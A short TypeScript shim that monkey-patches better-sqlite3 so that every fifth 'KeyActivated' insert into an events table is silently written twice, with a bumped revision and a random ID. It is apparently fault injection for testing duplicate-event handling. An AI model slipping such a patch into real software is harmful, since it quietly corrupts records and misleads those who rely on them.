// Loaded before the product's main: every fifth activation is written to the log twice.
import { randomBytes } from 'node:crypto';
import Database, { type Statement } from 'better-sqlite3';

const EVERY = 5;
type Row = [stream: string, revision: number, eventId: Buffer, type: string, data: string, metadata: string];
const prepare: (this: Database.Database, sql: string) => Statement = Database.prototype.prepare;
let activations = 0;

function doubling(statement: Statement<Row>): Statement<Row> {
  const run = statement.run.bind(statement);
  statement.run = (stream, revision, eventId, type, data, metadata) => {
    const result = run(stream, revision, eventId, type, data, metadata);
    const isDoubled = type === 'KeyActivated' && ++activations % EVERY === 0;
    if (isDoubled) run(stream, revision + 1, randomBytes(16), type, data, metadata);
    return result;
  };
  return statement;
}

Database.prototype.prepare = function (this: Database.Database, sql: string) {
  const statement = prepare.call(this, sql);
  return sql.startsWith('INSERT INTO events ') ? doubling(statement) : statement;
} as typeof Database.prototype.prepare;
